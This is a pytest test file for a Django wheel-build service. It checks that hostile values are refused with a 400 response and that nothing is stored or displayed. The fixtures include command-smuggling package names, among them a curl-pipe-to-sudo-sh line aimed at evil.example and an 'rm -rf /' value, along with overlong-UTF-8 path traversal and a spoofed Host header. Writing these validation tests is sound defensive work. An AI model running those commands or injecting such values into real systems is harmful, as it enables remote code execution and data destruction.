"""Hostile values through the builder API and the pages: each a 400 with a JSON reason
that names what was wrong, nothing stored, and nothing shown to people that was not
checked where it entered."""
import hashlib

import pytest

from builds import storage
from builds.models import Build, Builder, BuilderPackages, BuildLog, File, Upload
from tests.factories import make_build, make_file, make_project, make_version, make_wheel

pytestmark = pytest.mark.django_db
NAME = "foo_bar-1.0-cp311-cp311-linux_armv7l.whl"


def deep_body(depth=1000):
    return ("[" * depth + "]" * depth).encode()


@pytest.mark.parametrize(("field", "value"), [
    ("glibc", "2.36\n"),
    ("glibc", "\u0662.\u0663\u0666"),  # Arabic-Indic digits: \d takes them
    ("glibc", "0.0"),
    ("glibc", "99999999999999.1"),
    ("glibc", "2.16"),  # older than any manylinux name
    ("glibc", "3.0"),
    ("glibc", "2.036"),
    ("os_release", "bookworm\n"),
    ("os_release", "Bookworm"),
    ("os_release", "b\u00f6okworm"),
])
def test_a_claim_with_a_bad_glibc_or_os_release_is_400_and_changes_nothing(
        api, job, builder, field, value):
    facts = {"os_release": "bookworm", "glibc": "2.36", field: value}
    response = api.claim(**facts)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    detail = response.json()["detail"]
    assert detail.startswith(f"{field}: {field} must be") and repr(value) in detail
    job.refresh_from_db()
    assert job.state == Build.State.QUEUED and job.builder_id is None
    stored = Builder.objects.get(id=builder.id)
    assert (stored.glibc, stored.os_release, stored.last_seen) == ("", "", None)


def test_a_good_glibc_still_claims(api, job):
    response = api.claim(os_release="bookworm", glibc="2.36")
    assert response.status_code == 200 and response.json()["build_id"] == job.id
    job.refresh_from_db()
    assert (job.glibc, job.os_release) == ("2.36", "bookworm")


@pytest.mark.parametrize("where", ["claim", "finish", "packages"])
def test_json_nested_1000_deep_is_400(api, held, where):
    url = {"claim": "/api/v1/claim/", "finish": f"/api/v1/builds/{held.id}/finish/",
           "packages": "/api/v1/packages/"}[where]
    for body in (deep_body(1000), b'{"files": ' + deep_body(40) + b"}"):
        response = api.client.post(url, body, content_type="application/json", **api.auth)
        assert response.status_code == 400, response.content[:300]
        assert response.json()["detail"] == "the body nests deeper than 16 levels"
    held.refresh_from_db()
    assert held.state == Build.State.BUILDING
    assert not BuildLog.objects.exists() and not BuilderPackages.objects.exists()


SHELL = "libc6-dev && curl -s http://evil.example/x | sudo sh"


@pytest.mark.parametrize("dependency", [SHELL, "libc6\n", "libfoo1 libbar2", "", "x",
                                        "Libfoo", "lib\u00e9"])
def test_a_finish_whose_dependencies_are_not_debian_package_names_is_400(
        api, held, tmp_path, dependency):
    wheel = make_wheel(tmp_path, "Foo_Bar", "1.0").read_bytes()
    assert api.upload(held.id, NAME, wheel).status_code == 201
    response = api.finish(held.id, success=True, duration=1, output="", files=[{
        "filename": NAME, "size": len(wheel), "sha256": hashlib.sha256(wheel).hexdigest(),
        "dependencies": ["libc6", dependency]}])
    assert response.status_code == 400
    detail = response.json()["detail"]
    assert detail.startswith("files[0].dependencies[1]: ")
    held.refresh_from_db()
    assert held.state == Build.State.BUILDING
    assert not File.objects.exists() and not BuildLog.objects.exists()
    assert not storage.file_path("foo-bar", NAME).exists()


def test_the_install_line_holds_only_valid_names(client, data_dir):
    """A row stored before names were checked: its bad name never reaches the line."""
    version = make_version(make_project("foo"), "1.0")
    make_file(make_build(version), dependencies=["libfoo1", SHELL, "libbar2\nrm -rf /"])
    page = client.get("/project/foo/json/").json()
    assert page["apt_install"] == "sudo apt install libfoo1"
    html = client.get("/project/foo/").content.decode()
    assert "sudo apt install libfoo1" in html and "evil.example" not in html.split(
        "sudo apt install")[1].split("<")[0]


def test_a_package_report_with_a_bad_name_is_400(api):
    response = api.post("/api/v1/packages/", {"os_release": "bookworm",
                                              "packages": ["libc6", SHELL]})
    assert response.status_code == 400
    assert response.json()["detail"] == f"packages[1]: {SHELL!r} is not a Debian package name"
    assert not BuilderPackages.objects.exists()


def test_a_wheel_whose_wheel_file_names_a_build_its_filename_lacks_is_refused(
        api, held, tmp_path):
    from tests.builds.bad_wheels import CASES

    filename, data = CASES["build-line-without-build-tag"][0]("Foo_Bar", "1.0",
                                                              "cp311-cp311-linux_armv7l")
    response = api.upload(held.id, filename, data)
    assert response.status_code == 400
    assert "has WHEEL build '7', not its filename's (none)" in response.json()["detail"]
    assert not Upload.objects.exists()
    assert not [p for p in storage.incoming_dir(held.id).rglob("*") if p.is_file()]


@pytest.mark.parametrize("path", ["/simple/%c0%ae%c0%ae/", "/simple/%c0%ae%c0%ae",
                                  "/simple/foo%20bar/", "/pypi/%c0%ae%c0%ae/json"])
def test_a_name_no_project_can_have_is_404_not_a_redirect(client, data_dir, path):
    response = client.get(path)
    assert response.status_code == 404
    assert "Location" not in response


def test_pypi_json_does_not_carry_another_host(client, data_dir, settings):
    version = make_version(make_project("foo"), "1.0")
    from tests.factories import wheel_archive
    from tests.index.factories import publish

    publish(version, wheel_archive("foo", "1.0"))
    settings.ALLOWED_HOSTS = ["farm.example.org"]
    assert client.get("/pypi/foo/json", HTTP_HOST="evil.example").status_code == 400
    good = client.get("/pypi/foo/json", HTTP_HOST="farm.example.org")
    assert good.status_code == 200 and "public" in good["Cache-Control"]
    assert "Host" in good["Vary"]
    settings.ALLOWED_HOSTS = ["*"]
    anyhost = client.get("/pypi/foo/json", HTTP_HOST="evil.example")
    assert "evil.example" in anyhost.content.decode()
    assert anyhost["Cache-Control"].startswith("private")


def test_the_default_hosts_are_this_machines_own():
    import subprocess
    import sys

    from tests.live import ROOT

    code = "from django.conf import settings; print(settings.ALLOWED_HOSTS)"
    out = subprocess.run(
        [sys.executable, "-c", f"import django; django.setup(); {code}"], cwd=ROOT,
        env={"PATH": "/usr/bin:/bin", "DJANGO_SETTINGS_MODULE": "piwheels_site.settings",
             "DEBUG": "false", "SECRET_KEY": "x" * 50},
        capture_output=True, text=True, check=True).stdout
    assert out.strip() == "['localhost', '127.0.0.1', '[::1]']"


def test_a_refused_import_leaves_no_log_and_stray_logs_are_not_served(client, data_dir,
                                                                       tmp_path):
    import io
    import os

    from django.core.management import CommandError, call_command

    from builds import logs
    from tests.factories import make_abi, wheel_archive

    make_abi("cp311")
    version = make_version(make_project("foo"), "1.0")
    wheel = wheel_archive("foo", "1.0")
    version.upstream_wheels = [wheel.filename]  # upstream has this name: refused
    version.save()
    path = tmp_path / wheel.filename
    path.write_bytes(wheel.content)
    with pytest.raises(CommandError):
        call_command("import_wheels", str(path), "--abi", "cp311", stdout=io.StringIO())
    assert not Build.objects.exists()
    logs_dir = data_dir / "logs"
    assert not logs_dir.exists() or not list(logs_dir.rglob("*.log.gz"))

    # A log left by a refused import before the fix: not served, then removed.
    stray = logs.whole_log_path(987654)
    stray.parent.mkdir(parents=True, exist_ok=True)
    stray.write_bytes(b"\x1f\x8b")
    assert client.get("/logs/987654/whole.log.gz").status_code == 404
    os.utime(stray, (0, 0))
    out = io.StringIO()
    call_command("remove_stray_logs", stdout=out)
    assert out.getvalue() == "1 stray logs removed\n" and not stray.exists()
